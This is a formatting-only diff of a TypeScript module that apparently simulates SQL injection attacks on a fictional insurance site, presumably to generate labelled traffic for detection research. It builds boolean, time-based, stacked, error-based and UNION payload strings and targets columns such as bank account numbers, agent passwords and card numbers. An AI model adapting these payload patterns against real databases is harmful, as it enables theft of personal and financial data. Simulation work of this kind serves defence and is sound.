@@ -10,8 +10,12 @@ import { type Act, haste, intruder, type Plot, send, together } from './plot.ts'
 export type Target = { readonly table: Handle; readonly columns: readonly string[]; readonly order: string; readonly rows: readonly Row[] };
 
 const favourites: readonly (readonly [string, string, readonly string[]])[] = [
-  ['bank_accounts', 'id', ['account_no', 'holder_kana', 'bank_code']], ['customers', 'policy_no', ['policy_no', 'name', 'phone']], ['agents', 'login', ['login', 'password', 'license_id']],
-  ['claims', 'accident_no', ['accident_no', 'paid_amount']], ['customers', 'id', ['name', 'dob', 'email']], ['victims', 'id', ['name', 'phone']],
+  ['bank_accounts', 'id', ['account_no', 'holder_kana', 'bank_code']],
+  ['customers', 'policy_no', ['policy_no', 'name', 'phone']],
+  ['agents', 'login', ['login', 'password', 'license_id']],
+  ['claims', 'accident_no', ['accident_no', 'paid_amount']],
+  ['customers', 'id', ['name', 'dob', 'email']],
+  ['victims', 'id', ['name', 'phone']],
 ];
 
 export function pickTarget(plot: Plot, count: number, which?: string): Target {
@@ -57,9 +61,21 @@ function* probe(plot: Plot, client: Client, run: Run, ask: (q: Question) => Call
 function* failedAttempts(plot: Plot, client: Client, run: Run): Act {
   const { site, random } = plot;
   const g = run.grammar;
-  for (const [table, column] of random.shuffle<[string, string]>([['users', 'password'], ['customers', 'my_number'], ['members', 'card_number']]).slice(0, random.int(1, 3))) {
-    const message = plot.dialect === 'mysql' ? (table === 'customers' ? `Unknown column '${column}' in 'field list'` : `Table 'quote.${table}' doesn't exist`)
-      : table === 'customers' ? `column "${column}" does not exist` : `relation "public.${table}" does not exist`;
+  for (const [table, column] of random
+    .shuffle<[string, string]>([
+      ['users', 'password'],
+      ['customers', 'my_number'],
+      ['members', 'card_number'],
+    ])
+    .slice(0, random.int(1, 3))) {
+    const message =
+      plot.dialect === 'mysql'
+        ? table === 'customers'
+          ? `Unknown column '${column}' in 'field list'`
+          : `Table 'quote.${table}' doesn't exist`
+        : table === 'customers'
+          ? `column "${column}" does not exist`
+          : `relation "public.${table}" does not exist`;
     const refused: Injected = { does: 'error', state: table === 'customers' ? '42703' : '42P01', message, visible: false, atParse: true };
     const condition = `${g.code(g.nth(column, table, column, 0), 1)}>64`;
     const text = run.point === 'search' ? `${run.base}%' AND ${condition} AND '${run.literal}%'='${run.literal}` : `${run.base} AND ${condition}`;
@@ -126,14 +142,17 @@ function* blind(plot: Plot, phase: string, letter: string, rows: number, make: (
   const { client, run } = prepare(plot, phase);
   const ask = (q: Question): Call => make(plot, run, q);
   yield* probe(plot, client, run, ask);
-  const others = Array.from({ length: plot.threads - 1 }, () => (plot.random.chance(0.5) && !plot.sharedAddress ? intruder(plot, phase, { userAgent: client.userAgent }) : { ...client }));
+  const others = Array.from({ length: plot.threads - 1 }, () =>
+    plot.random.chance(0.5) && !plot.sharedAddress ? intruder(plot, phase, { userAgent: client.userAgent }) : { ...client },
+  );
   yield* readTarget(plot, pickTarget(plot, rows, which), letter, [client, ...others], run, ask);
   plot.truth.phase(phase).success = true;
 }
 
 export const booleanInjection = (plot: Plot, which?: string): Act => blind(plot, 'sqli-boolean', 'B', plot.targetRows, booleanCall, which);
 export const timeInjection = (plot: Plot, which?: string): Act => blind(plot, 'sqli-time', 'T', Math.max(1, Math.ceil(plot.targetRows / 4)), timeCall, which);
-export const stackedInjection = (plot: Plot, which?: string): Act => blind(plot, 'sqli-stacked', 'S', Math.max(1, Math.ceil(plot.targetRows / 4)), stackedCall, which);
+export const stackedInjection = (plot: Plot, which?: string): Act =>
+  blind(plot, 'sqli-stacked', 'S', Math.max(1, Math.ceil(plot.targetRows / 4)), stackedCall, which);
 
 /** One cell a request, in the text of an error message. Falls back to yes and no where the product has no such message. */
 export function* errorInjection(plot: Plot, which?: string): Act {
@@ -154,7 +173,12 @@ export function* errorInjection(plot: Plot, which?: string): Act {
       }
       plot.truth.give(target.table, row[0]!, [column], plot.play.now(), `E:${k}`, 'extracted');
     }
-    plot.truth.extracted('E', target.table.name, target.columns, target.columns.map(c => row[target.table.column(c)] ?? null));
+    plot.truth.extracted(
+      'E',
+      target.table.name,
+      target.columns,
+      target.columns.map(c => row[target.table.column(c)] ?? null),
+    );
   }
   plot.truth.phase(phase).success = true;
 }
@@ -180,7 +204,14 @@ export function* unionDump(plot: Plot, names: readonly string[], window: number,
   yield* findWidth(plot, client, run);
   for (const name of names) {
     const table = site.world.tables[name]!;
-    yield* unionRows(plot, client, run, { table, columns: table.columns, order: table.key, rows: table.ordered(table.key) }, window, random.int(2, 20) * SECOND);
+    yield* unionRows(
+      plot,
+      client,
+      run,
+      { table, columns: table.columns, order: table.key, rows: table.ordered(table.key) },
+      window,
+      random.int(2, 20) * SECOND,
+    );
     yield* between(name);
   }
   plot.truth.phase('sqli-union').success = true;
@@ -209,12 +240,26 @@ function* unionRows(plot: Plot, client: Client, found: Run, target: Target, step
   const at = target.columns.map(c => target.table.column(c));
   const line = (row: Row): string => `${run.open}${at.map(i => row[i] ?? ' ').join(between)}${run.close}`;
   const { name } = target.table;
-  const qualified = { postgresql: `public.${name}`, mssql: `quote.dbo.${name}`, oracle: `QUOTE.${name.toUpperCase()}`, mysql: `quote.${name}`, sqlite: name }[g.name];
+  const qualified = { postgresql: `public.${name}`, mssql: `quote.dbo.${name}`, oracle: `QUOTE.${name.toUpperCase()}`, mysql: `quote.${name}`, sqlite: name }[
+    g.name
+  ];
   const whole = step >= target.table.rows.length;
   for (let first = 0; first < target.rows.length; first += step) {
     const chunk = target.rows.slice(first, first + step);
-    const from = whole ? ` FROM ${qualified}` : ` FROM (SELECT ${target.columns.join(',')} FROM ${qualified} ORDER BY ${target.order} LIMIT ${step} OFFSET ${first}) AS ${run.open}`;
-    yield* send(client, unionCall(plot, run, g.join(parts), from, chunk.map(line), { table: target.table, rows: chunk, columns: target.columns }), haste(random, pace));
-    for (const row of chunk) plot.truth.extracted('U', name, target.columns, at.map(i => row[i] ?? null));
+    const from = whole
+      ? ` FROM ${qualified}`
+      : ` FROM (SELECT ${target.columns.join(',')} FROM ${qualified} ORDER BY ${target.order} LIMIT ${step} OFFSET ${first}) AS ${run.open}`;
+    yield* send(
+      client,
+      unionCall(plot, run, g.join(parts), from, chunk.map(line), { table: target.table, rows: chunk, columns: target.columns }),
+      haste(random, pace),
+    );
+    for (const row of chunk)
+      plot.truth.extracted(
+        'U',
+        name,
+        target.columns,
+        at.map(i => row[i] ?? null),
+      );
   }
 }
